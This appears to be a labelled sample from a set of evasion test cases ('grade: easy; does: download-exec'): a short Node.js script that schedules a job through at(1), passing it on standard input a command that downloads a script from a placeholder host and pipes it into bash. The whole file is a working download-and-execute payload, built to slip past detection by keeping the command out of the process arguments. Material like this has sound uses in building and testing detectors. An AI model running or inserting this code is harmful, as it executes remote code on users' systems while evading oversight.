// evasion: at(1) reads the job to run from its standard input
// grade: easy; does: download-exec
'use strict';
const { spawn } = require('child_process');

const job = spawn('at', ['now', '+', '1', 'minute'], { stdio: ['pipe', 'ignore', 'ignore'] });
job.stdin.end('wget -qO- https://cdn.example.dev/agent | bash\n');
